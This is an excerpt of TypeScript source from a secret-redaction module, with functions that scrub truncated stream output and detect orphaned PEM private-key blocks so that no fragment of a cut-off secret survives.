const MAX_PASSES = 4;

/** The names of the text rules, in the order they apply (for docs and tests). */
export const TEXT_RULES: readonly string[] = [
  'PEM private key (output only)',
  ...RULES.map((rule) => rule.name),
];

/**
 * The kept tail of a stream whose start was dropped (a hook's stderr past its 64 KiB): its first
 * line is a fragment (a secret whose start was cut off is no longer recognizable), so it is
 * dropped; and a private key whose BEGIN line was cut off (an END marker before any BEGIN) is
 * replaced up to its END. Then the rest is redacted as usual. So no fragment of a secret that
 * straddled the cut survives.
 */
export const redactCutTail = (tail: string): string => {
  const newline = tail.indexOf('\n');
  const kept = newline < 0 ? '' : tail.slice(newline + 1);
  const end = orphanKeyEnd(kept);
  return redactText(end < 0 ? kept : `${REDACTED_PRIVATE_KEY}${kept.slice(end)}`);
};

/**
 * Where the END marker line of a private key whose BEGIN is not in `text` ends (just after its
 * `PRIVATE KEY-----`), or -1: the first line holding `-----END ` then `PRIVATE KEY-----`, when
 * no `-----BEGIN ` comes before it. Each search goes forward only: linear.
 */
const orphanKeyEnd = (text: string): number => {
  const ends = forwardSearch(/-----END /gi, text);
  const marks = forwardSearch(/PRIVATE KEY-----/gi, text);
  const newlines = forwardSearch(/\n/g, text);
  const begin = forwardSearch(/-----BEGIN /gi, text)(0);
  for (let search = 0; ;) {
    const end = ends(search);
    if (end < 0 || (begin >= 0 && begin < end)) return -1;
    const mark = marks(end + '-----END '.length);
    if (mark < 0) return -1;
    const newline = newlines(end);
    if (newline < 0 || mark < newline) return mark + PRIVATE_KEY_MARK.length;
    search = newline + 1;
  }
};
